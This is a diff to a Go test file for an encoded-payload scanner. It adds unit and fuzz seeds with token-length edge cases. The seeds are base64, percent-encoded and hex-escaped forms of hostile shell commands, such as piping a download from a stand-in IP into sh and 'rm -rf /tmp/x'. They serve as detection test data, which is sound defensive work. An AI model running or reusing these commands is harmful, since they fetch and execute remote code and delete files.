@@ -53,6 +53,7 @@ func TestScanEncodedSkipsOnlyShortTokens(t *testing.T) {
 	every := scanEveryToken
 	payload := "Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo"
 	pieces := []string{payload, "%63%75%72%6c%20x%20%7c%20sh", `\x63\x75\x72\x6c\x20\x78\x20\x7c\x20\x73\x68`,
+		"Y3VybCBhLmJ8c2gg", "cm0gLXJmIC90bXAveA==", // a payload of 16 and of 20 characters
 		" ", "\n", "(", "\"", "é", "word", "0123456789abcdef", "a", "=", "==", "+/", "-_", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
 		// Breaks found eight at a time (white space, commas), and bytes
 		// next to them in value that are none.
@@ -104,7 +105,12 @@ func FuzzScanEncoded(f *testing.F) {
 		// changes the verdict past them: URL base64, escapes.
 		strings.Repeat("x", 100) + "-Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43OjQ0NDQveCB8IHNo",
 		strings.Repeat("Q", 77) + "%63%75%72%6c%20x%20%7c%20sh",
-		strings.Repeat("a", 70) + "\\x63\\x75\\x72\\x6c\\x20"} {
+		strings.Repeat("a", 70) + "\\x63\\x75\\x72\\x6c\\x20",
+		// Tokens of 64 bytes at most (scanShortToken), several runs in
+		// one, padded or not, and one byte past 64.
+		"k=Y3VybCBodHRwOi8vMTk4==.Y3VybCBodHRwOi8vMTk4LjUxLjEw=x", "2025-10-18T02:14:06Z/Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43",
+		"x=Y3VybCBhLmJ8c2gg", "Y3VybCBhLmJ8c2gg.cm0gLXJmIC90bXAveA==.Y3VybCBhLmIgfCBzaA==",
+		strings.Repeat("Q", 63) + ".", strings.Repeat("Q", 64) + " ", strings.Repeat("Q", 65) + " "} {
 		f.Add(s)
 	}
 	d := Default()
